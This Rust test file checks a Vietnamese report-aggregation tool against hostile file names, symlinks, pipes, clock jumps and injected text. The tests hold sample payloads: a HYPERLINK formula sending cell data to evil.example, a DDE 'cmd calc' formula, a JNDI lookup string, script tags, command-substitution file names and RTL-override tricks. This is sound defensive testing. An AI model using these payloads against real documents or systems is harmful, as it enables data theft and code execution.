//! Originals, names and text of senders in a whole run.

#![allow(clippy::unwrap_used)]

mod home;

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, SystemTime};

use home::{office, tonghop};
use serde_json::Value;
use tempfile::TempDir;

const HEAD: &str = "ĐẢNG ỦY PHƯỜNG KIẾN AN\nỦY BAN NHÂN DÂN PHƯỜNG KIẾN AN\n\nKiến An, ngày 20 tháng 3 năm 2026\n\n\
                    BÁO CÁO\nKết quả thực hiện nhiệm vụ quý I năm 2026\n\n";

fn report(share: &str) -> String {
    format!("{HEAD}- Tỷ lệ dân số tham gia bảo hiểm y tế đạt {share}%.\n")
}

fn run(home: &TempDir) -> Output {
    tonghop(home.path(), &["run"])
}

fn result(home: &TempDir) -> Value {
    serde_json::from_slice(&fs::read(home.path().join("outputs/2026-Q1/so-lieu.json")).unwrap()).unwrap()
}

/// Name and state of every file of the drop folder.
fn states(home: &TempDir) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let result = result(home);
    let files = result["submissions"].as_array().unwrap().iter();
    files.map(|each| (text(&each["file"]).replacen("bao-cao/", "", 1), text(&each["state"]))).collect()
}

/// Everything below a folder: content and time of the last change.
fn tree(folder: &Path) -> BTreeMap<PathBuf, (Vec<u8>, SystemTime)> {
    let mut found = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(each) = folders.pop() {
        for entry in fs::read_dir(each).unwrap().map(Result::unwrap) {
            let kind = entry.file_type().unwrap();
            if kind.is_dir() {
                folders.push(entry.path());
            } else if kind.is_file() {
                let changed = entry.metadata().unwrap().modified().unwrap();
                found.insert(entry.path(), (fs::read(entry.path()).unwrap(), changed));
            }
        }
    }
    found
}

#[cfg(unix)]
#[test]
fn any_name_is_one_file_with_one_state_and_no_original_changes() {
    let long = format!("{}.txt", "d".repeat(251));
    let decomposed = "Ba\u{301}o ca\u{301}o.txt";
    let names = [
        long.as_str(),
        decomposed,
        "😀 quý I.txt",
        "cuối. ",
        "hai chấm..",
        "A.TXT",
        "a.txt",
        "xuống\ndòng.txt",
        "\u{1b}[31mđỏ.txt",
        "đổi\u{202e}txt.exe",
        "-rf.txt",
        "$(touch x).txt",
        "%s%n.txt",
        "..txt",
    ];
    let texts: Vec<String> = (0..).take(names.len()).map(|number| report(&format!("9{}", number % 10))).collect();
    let reports: Vec<(&str, &str)> = names.iter().copied().zip(texts.iter().map(String::as_str)).collect();
    let home = office(&reports);
    let raw = std::ffi::OsStr::new("not-unicode-");
    let mut raw = std::os::unix::ffi::OsStrExt::as_bytes(raw).to_vec();
    raw.push(0xFF);
    let raw: &std::ffi::OsStr = std::os::unix::ffi::OsStrExt::from_bytes(&raw);
    fs::write(home.path().join("inputs/bao-cao").join(raw), report("50")).unwrap();
    let before = tree(&home.path().join("inputs/bao-cao"));
    let output = run(&home);
    assert_ne!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(tree(&home.path().join("inputs/bao-cao")), before);
    let states = states(&home);
    assert_eq!(states.len(), names.len() + 1, "{states:?}");
    assert!(states.iter().any(|(name, _)| name == "Báo cáo.txt"), "{states:?}");
    let shown = String::from_utf8(output.stdout).unwrap() + &String::from_utf8(output.stderr).unwrap();
    assert!(!shown.contains('\u{1b}') && !shown.contains('\u{202e}'), "{shown}");
    assert!(!home.path().join("x").exists() && !home.path().join("inputs/bao-cao/x").exists());
}

#[cfg(unix)]
#[test]
fn links_pipes_and_closed_folders_are_told_and_lead_nowhere() {
    use std::os::unix::fs::symlink;
    let home = office(&[("a.txt", &report("95"))]);
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("secret.txt"), report("11")).unwrap();
    let drop = home.path().join("inputs/bao-cao");
    symlink(outside.path().join("secret.txt"), drop.join("link.txt")).unwrap();
    symlink(outside.path(), drop.join("folder")).unwrap();
    symlink("nowhere", drop.join("broken.docx")).unwrap();
    assert!(Command::new("mkfifo").arg(drop.join("pipe.txt")).status().unwrap().success());
    run(&home);
    let states = states(&home);
    let unread: Vec<&str> =
        states.iter().filter(|(_, state)| state == "unreadable").map(|(name, _)| name.as_str()).collect();
    assert_eq!(unread, ["broken.docx", "folder", "link.txt", "pipe.txt"]);
    assert!(!result(&home).to_string().contains("\"value\":11"));
    let page = fs::read_to_string(home.path().join("outputs/2026-Q1/Bang-theo-doi-2026-Q1.html")).unwrap();
    let outside = outside.path().file_name().unwrap().to_string_lossy().into_owned();
    assert!(page.contains("link.txt") && !page.contains(&outside), "the page leads where a dropped link leads");
}

/// With programme and other files known, the reader is started after the file was looked at: one that changes the file
/// first stands for a copy that goes on.
#[cfg(target_os = "linux")]
#[test]
fn a_file_that_grows_while_it_is_read_is_read_again_whole() {
    use std::os::unix::fs::PermissionsExt;
    use tonghop::run::{Apart, Config, Order, Silent};
    let home = office(&[("a.txt", report("95"))]);
    let (grown, reader) = (home.path().join("inputs/bao-cao/b.txt"), home.path().join("reader"));
    let (program, rest) = (env!("CARGO_BIN_EXE_tonghop"), "bảo hiểm y tế đạt 91%.");
    let script = format!(
        "#!/bin/sh\nif [ -e '{0}' ]; then echo ' {rest}' >> '{0}'; fi\nexec '{program}' \"$@\"\n",
        grown.display()
    );
    fs::write(&reader, script).unwrap();
    fs::set_permissions(&reader, fs::Permissions::from_mode(0o755)).unwrap();
    let mut config = Config::default();
    (config.folders.inputs, config.folders.outputs) = (home.path().join("inputs"), home.path().join("outputs"));
    config.reading.apart = Apart::Processes(reader);
    let order = Order { config, ..Order::default() };
    tonghop::run::run(&order, &Silent).unwrap();
    fs::write(&grown, format!("{HEAD}- Tỷ lệ dân số tham gia")).unwrap();
    tonghop::run::run(&order, &Silent).unwrap();
    assert_eq!(fs::read_to_string(&grown).unwrap().matches(rest).count(), 1, "the reader was started once");
    assert!(states(&home).iter().all(|(_, state)| state == "read"), "{:?}", states(&home));
    assert!(result(&home).to_string().contains("\"value\":91"), "{}", result(&home));
}

#[test]
fn clocks_that_jump_change_no_result() {
    let home = office(&[("a.txt", &report("95")), ("b.txt", &report("95,5").replace("Kết quả", "Các kết quả"))]);
    run(&home);
    let first = result(&home);
    for (name, time) in [
        ("a.txt", SystemTime::now() + Duration::from_secs(400 * 86_400)),
        ("b.txt", SystemTime::UNIX_EPOCH + Duration::from_secs(1)),
    ] {
        let file = File::options().append(true).open(home.path().join("inputs/bao-cao").join(name)).unwrap();
        file.set_modified(time).unwrap();
    }
    run(&home);
    assert_eq!(result(&home), first);
    // What was written under a clock that ran ahead is used and kept all the same.
    for (path, _) in tree(&home.path().join("outputs/.tonghop")) {
        let file = File::options().append(true).open(path).unwrap();
        file.set_modified(SystemTime::now() + Duration::from_secs(400 * 86_400)).unwrap();
    }
    fs::write(home.path().join("inputs/bao-cao/a.txt"), report("96")).unwrap();
    run(&home);
    assert_ne!(result(&home), first);
}

/// The text of every part of a package.
fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|number| {
            let mut part = archive.by_index(number).unwrap();
            let mut bytes = Vec::new();
            part.read_to_end(&mut bytes).unwrap();
            (part.name().unwrap().into_owned(), String::from_utf8_lossy(&bytes).into_owned())
        })
        .collect()
}

#[test]
fn text_of_a_sender_stays_text_in_every_output() {
    let hostile = format!(
        "{HEAD}- =HYPERLINK(\"http://evil.example/?\"&A1;\"x\") Tỷ lệ dân số tham gia bảo hiểm y tế đạt 95,3% \
         <w:fldSimple w:instr=\"DDEAUTO\"/><script>alert(1)</script> {{{{ letterhead }}}} {{% for x in y %}} \
         \u{1b}]0;evil\u{7} \u{202e}gnp.exe ]]> &lt;img src=x onerror=alert(1)&gt; ${{jndi:ldap://evil.example}}.\n\
         - +cmd|' /C calc'!A0: số hộ nghèo giảm còn 12 hộ.\n"
    );
    let names = match cfg!(windows) {
        true => ["=cmd calc'!A0 x&y.txt", "@SUM(1+1).txt"],
        false => ["=cmd|calc'!A0 <b>x&y\u{1b}[31m\u{202e}\u{7}.txt", "\u{1b}]0;@SUM(1+1).txt"],
    };
    let home = office(&[(names[0], hostile.as_str()), (names[1], "không phải báo cáo")]);
    let output = run(&home);
    assert_ne!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
    let mut seen = 0;
    for (path, (bytes, _)) in tree(&home.path().join("outputs/2026-Q1")) {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let texts = match path.extension().and_then(|kind| kind.to_str()) {
            Some("xlsx" | "docx") => parts(&bytes),
            _ => vec![(name.clone(), String::from_utf8(bytes).unwrap())],
        };
        for (part, text) in texts {
            let place = format!("{name}: {part}");
            assert!(!text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'), "{place}");
            if part.ends_with(".xml") || part.ends_with(".rels") || part.ends_with(".html") {
                for markup in ["<script>alert", "<img src=x", "<w:fldSimple w:instr=\"DDE", "<b>x"] {
                    assert!(!text.contains(markup), "{markup} in {place}");
                }
            }
            if part.ends_with(".xml") && part.contains("worksheets") {
                assert!(!text.contains("<f>") && !text.contains("<f "), "a formula in {place}");
            }
            if part.ends_with(".rels") {
                assert!(!text.contains("evil"), "a link in {place}");
            }
            seen += usize::from(text.contains("HYPERLINK") || text.contains("evil.example"));
        }
    }
    assert!(seen > 0, "the hostile text reached no output: the test looks at nothing");
}
